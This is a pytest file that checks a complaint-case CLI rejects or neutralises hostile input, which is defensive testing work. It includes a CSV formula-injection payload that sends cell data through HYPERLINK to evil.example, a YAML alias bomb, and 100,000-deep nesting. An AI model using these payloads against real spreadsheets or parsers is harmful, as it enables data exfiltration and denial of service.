"""Hostile input (issue 12, points 4 and 5): success or a one-line reason, never a traceback."""

from __future__ import annotations

import copy
import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from .conftest import snapshot
from .test_ledger import CLOSED
from .test_register import FULL_CASE


def refused(cf, ws, *args, input=None, expect: str | tuple[str, ...]):
    before = snapshot(ws)
    result = cf(*args, input=input)
    assert result.exit_code == 1, (result.exit_code, result.stdout, result.stderr)
    assert "internal error" not in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    for part in (expect,) if isinstance(expect, str) else expect:
        assert part in result.stderr, result.stderr
    assert snapshot(ws) == before
    return result


def case_with(**changes) -> dict:
    data = copy.deepcopy(FULL_CASE)
    for key, value in changes.items():
        node = data
        *path, last = key.split("__")
        for part in path:
            node = node[part]
        node[last] = value
    return data


def new_refused(cf, ws, payload, expect):
    text = payload if isinstance(payload, str) else json.dumps(payload, ensure_ascii=True)
    return refused(cf, ws, "case", "new", "--from", "-", input=text, expect=expect)


@pytest.mark.parametrize(
    ("payload", "expect"),
    [
        (case_with(complainant="王小明"), "complainant: must be a mapping"),
        (case_with(target=["SVC"]), "target: must be a mapping"),
        (case_with(extra="plate"), "extra: must be a mapping"),
        (case_with(content="lone \ud800 surrogate"), ("content", "U+D800")),
        (case_with(complainant__name="\udfff"), ("complainant.name", "U+DFFF")),
        # received_at is named by the option that sets it too (--at)
        (case_with(received_at="0001-01-01"), ("0001-01-01", "before 2000")),
        (case_with(received_at="1900-05-04 10:00"), ("1900-05-04", "before 2000")),
        (case_with(complainant__phone="1" * 5000), ("complainant.phone", "5,000")),
        (case_with(complainant__name="王\u202e小明"), ("complainant.name", "U+202E")),
        (case_with(complainant__name="王\u2066小明\u2069"), ("complainant.name", "U+2066")),
        (case_with(content="看\u200b不见"), ("content", "U+200B")),
        (case_with(demand="\ufeff道歉"), ("demand", "U+FEFF")),
        (case_with(content="零宽\u200d连接"), ("content", "U+200D")),
        (case_with(extra={"plate": "浙A\u200e12345"}), ("extra.plate", "U+200E")),
    ],
)
def test_case_new_refuses_hostile_values(cf, ws, payload, expect):
    new_refused(cf, ws, payload, expect)


def test_a_5000_digit_phone_number(cf, ws):
    text = json.dumps(FULL_CASE).replace('"13812345678"', "1" * 5000)
    new_refused(cf, ws, text, ("complainant.phone", "5,000"))
    import yaml

    data = yaml.safe_dump(FULL_CASE, allow_unicode=True).replace("'13812345678'", "1" * 5000)
    assert "1" * 5000 in data
    new_refused(cf, ws, data, ("complainant.phone", "5,000"))


@pytest.mark.parametrize("literal", ["NaN", "Infinity", "-Infinity"])
def test_nan_is_not_text(cf, ws, literal):
    text = json.dumps({**FULL_CASE, "content": None}).replace(
        '"content": null', f'"content": {literal}'
    )
    new_refused(cf, ws, text, "content: must be text")


def test_yaml_nan_is_not_text(cf, ws):
    import yaml

    data = yaml.safe_dump({**FULL_CASE, "content": float("nan")}, allow_unicode=True)
    new_refused(cf, ws, data, "content: must be text")


def test_json_nested_100000_deep(cf, ws):
    new_refused(cf, ws, "[" * 100_000 + "]" * 100_000, ("-", "nested too deep"))
    text = json.dumps(FULL_CASE)[:-1] + ', "extra": ' + '{"a": ' * 100_000 + "1" + "}" * 100_001
    new_refused(cf, ws, text, "nested too deep")


def test_yaml_nested_deep(cf, ws):
    new_refused(cf, ws, "a: " + "[" * 100_000 + "]" * 100_000 + "\n", "nested too deep")


def test_yaml_alias_bomb(cf, ws):
    lines = ['a0: ["x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    for i in range(1, 10):
        prev = f"*a{i - 1}"
        lines.append(f"a{i}: &a{i} [{', '.join([prev] * 9)}]")
    lines[0] = 'a0: &a0 ["x", "x", "x", "x", "x", "x", "x", "x", "x"]'
    new_refused(cf, ws, "\n".join(lines) + "\n", "-")


def test_duplicate_json_keys(cf, ws):
    text = json.dumps(FULL_CASE)[:-1] + ', "content": "second"}'
    new_refused(cf, ws, text, ("content", "twice"))
    text = json.dumps(FULL_CASE).replace('"name":', '"name": "A", "name":', 1)
    new_refused(cf, ws, text, ("complainant.name", "twice"))


def test_duplicate_yaml_keys(cf, ws):
    import yaml

    data = yaml.safe_dump(FULL_CASE, allow_unicode=True) + "content: second\n"
    new_refused(cf, ws, data, ("content", "twice"))


def test_zwj_inside_an_emoji_is_kept(cf):
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
    rainbow = "\U0001f3f3\ufe0f\u200d\U0001f308"
    data = case_with(content=f"一家人 {family} 和 {rainbow}")
    out = cf.json("case", "new", "--from", "-", input=json.dumps(data), env=None)
    assert out["content"] == f"一家人 {family} 和 {rainbow}"


# -- import --------------------------------------------------------------------------------------------
def import_refused(cf, ws, tmp_path, records, expect, *, name="ledger.json", raw=None):
    path = tmp_path / name
    if raw is not None:
        path.write_text(raw, encoding="utf-8")
    else:
        path.write_text(json.dumps(records, ensure_ascii=True), encoding="utf-8")
    result = refused(cf, ws, "case", "import", str(path), expect=expect)
    assert str(path) in result.stderr or "record" in result.stderr
    return result


def closed_with(**changes) -> dict:
    data = copy.deepcopy(CLOSED)
    for key, value in changes.items():
        node = data
        *path, last = key.split("__")
        for part in path:
            node = node[part]
        node[last] = value
    return data


def reopened(handling) -> dict:
    data = copy.deepcopy(CLOSED)
    past = {
        "handling": handling,
        "callback": copy.deepcopy(CLOSED["callback"]),
        "closure": {**CLOSED["closure"], "penalty": None},
        "at": "2025-10-12T10:00:00+08:00",
        "by": "吴芳",
        "reason": "客户再次投诉",
    }
    data["reopens"] = [past]
    return data


@pytest.mark.parametrize(
    ("record", "expect"),
    [
        (closed_with(closure__penalty="{not json"), ("closure.penalty", "not valid JSON")),
        (closed_with(closure__penalty=[1, 2]), ("closure.penalty", "must be a mapping")),
        (closed_with(closure__penalty={"type": [1], "person": "张伟"}), "penalty"),
        (reopened("oops"), ("reopens[0].handling", "must be a mapping")),
        (closed_with(handling="oops"), ("handling", "must be a mapping")),
        (closed_with(callback=[1]), ("callback", "must be a mapping")),
        (closed_with(reopens="again"), ("reopens", "must be a list")),
        (closed_with(reopens=["again"]), ("reopens[0]", "must be a mapping")),
        (closed_with(case_no="TS-2026\n000777"), "case_no"),
        (closed_with(case_no="TS-\u202e2026-0001"), ("case_no", "U+202E")),
        (closed_with(case_no=".lock"), ("case_no", "numbering pattern")),
        (closed_with(case_no="TS-2025-42"), ("case_no", "numbering pattern")),
        (closed_with(case_no="TS-\u0662\u0660\u0662\u0665-000001"), "case_no"),
        (closed_with(case_no="TS-2025-999999999999"), ("case_no", "999,999")),
        (closed_with(case_no="TS-2025-1000000"), ("case_no", "999,999")),
        (closed_with(received_at="1900-01-01T10:00:00+08:00"), ("received_at", "before 2000")),
        (closed_with(closure__summary="结\u202e案"), ("summary", "U+202E")),
    ],
)
def test_import_refuses_hostile_records(cf, ws, tmp_path, record, expect):
    import_refused(cf, ws, tmp_path, [record], expect)


def test_import_json_nested_too_deep(cf, ws, tmp_path):
    import_refused(cf, ws, tmp_path, None, "nested too deep", raw="[" * 100_000 + "]" * 100_000)


def test_import_duplicate_json_keys(cf, ws, tmp_path):
    raw = json.dumps([CLOSED]).replace('"summary":', '"summary": "x", "summary":', 1)
    import_refused(cf, ws, tmp_path, None, ("closure.summary", "twice"), raw=raw)


def csv_of(**cells) -> str:
    """A CSV ledger of one closed case, as export writes it, with `cells` changed."""
    import csv
    import io

    from complaintforms.services import ledger

    row = {**ledger.flatten(copy.deepcopy(CLOSED)), **cells}
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=list(row), lineterminator="\n")
    writer.writeheader()
    writer.writerow(row)
    return buf.getvalue()


def test_csv_cell_over_the_field_limit(cf, ws, tmp_path):
    text = csv_of(**{"handling.findings": "核" * 140_000})
    import_refused(cf, ws, tmp_path, None, ("ledger.csv", "line"), name="ledger.csv", raw=text)


def test_csv_duplicate_headers(cf, ws, tmp_path):
    header, row = csv_of().splitlines()[:2]
    text = f"{header},content\n{row},second\n"
    import_refused(cf, ws, tmp_path, None, ("content", "twice"), name="ledger.csv", raw=text)


def test_csv_penalty_not_json(cf, ws, tmp_path):
    text = csv_of(**{"closure.penalty": "{not json"})
    import_refused(
        cf, ws, tmp_path, None, ("closure.penalty", "not valid JSON"), name="ledger.csv", raw=text
    )
    text = csv_of(**{"closure.penalty": "[1, 2]"})
    import_refused(
        cf,
        ws,
        tmp_path,
        None,
        ("closure.penalty", "must be a mapping"),
        name="ledger.csv",
        raw=text,
    )


def test_counter_is_not_moved_by_an_absurd_number(cf, ws, tmp_path):
    import_refused(cf, ws, tmp_path, [closed_with(case_no="TS-2025-999999999999")], "case_no")
    fine = tmp_path / "fine.json"
    fine.write_text(json.dumps([closed_with(case_no="TS-2025-000042")]), encoding="utf-8")
    assert cf.json("case", "import", str(fine))["imported"] == 1


# -- CSV export: formulas are neutralised, and come back on import -------------------------------
FORMULAS = {
    "content": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "demand": "+1+1",
    "complainant__address": "@SUM(1+1)",
    "complainant__name": "-2+3",
}


def test_csv_export_neutralises_formulas_and_import_restores_them(cf, tmp_path):
    from complaintforms.workspace import Workspace, init_workspace

    from .conftest import Runner

    data = case_with(**FORMULAS)
    data["complainant"]["phone"] = "+86 138 1234 5678"
    data["extra"] = {"plate": "'=already quoted"}
    created = cf.json("case", "new", "--from", "-", input=json.dumps(data))
    out = tmp_path / "out.csv"
    result = cf("case", "export", "--format", "csv", "--output", str(out))
    assert result.exit_code == 0, result.stderr
    import csv
    import io

    text = out.read_text(encoding="utf-8-sig")
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["content"] == "'" + FORMULAS["content"]
    assert row["demand"] == "'+1+1"
    assert row["complainant.address"] == "'@SUM(1+1)"
    assert row["complainant.name"] == "'-2+3"
    assert row["complainant.phone"] == "'+86 138 1234 5678"
    for value in row.values():
        assert not value or value[0] not in "=+-@", value

    fresh = Runner(Workspace.open(init_workspace(tmp_path / "fresh").root))
    fresh.json("case", "import", str(out))
    back = fresh.json("case", "show", created["case_no"])
    for key in ("content", "demand", "complainant", "extra"):
        assert back[key] == created[key], key


# -- property: whatever JSON-like value comes in, a result or a reason ----------------------------
_weird_text = st.text(
    st.characters(codec=None, exclude_categories=())
    | st.sampled_from(
        ["\ud800", "\u202e", "\u200b", "\u200d", "\ufeff", "\x00", "=", "😀", "王", "\n"]
    ),
    max_size=12,
)
_keys = st.sampled_from(sorted(FULL_CASE) + ["name", "phone", "type", "staff"]) | _weird_text
_scalars = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.integers(min_value=10**50, max_value=10**60)
    | st.floats(allow_nan=True, allow_infinity=True)
    | _weird_text
)
_values = st.recursive(
    _scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(_keys, inner, max_size=4),
    max_leaves=12,
)


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(changes=st.dictionaries(_keys, _values, max_size=4), whole=st.booleans())
def test_any_json_value_ends_in_success_or_a_reason(cf, changes, whole):
    data = {**FULL_CASE, **changes} if whole else changes
    text = json.dumps(data, ensure_ascii=True)
    result = cf("case", "new", "--from", "-", input=text)
    assert result.exit_code in (0, 1), (result.exit_code, result.stderr)
    assert "internal error" not in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    if result.exit_code == 1:
        assert len(result.stderr.strip().splitlines()) == 1, result.stderr
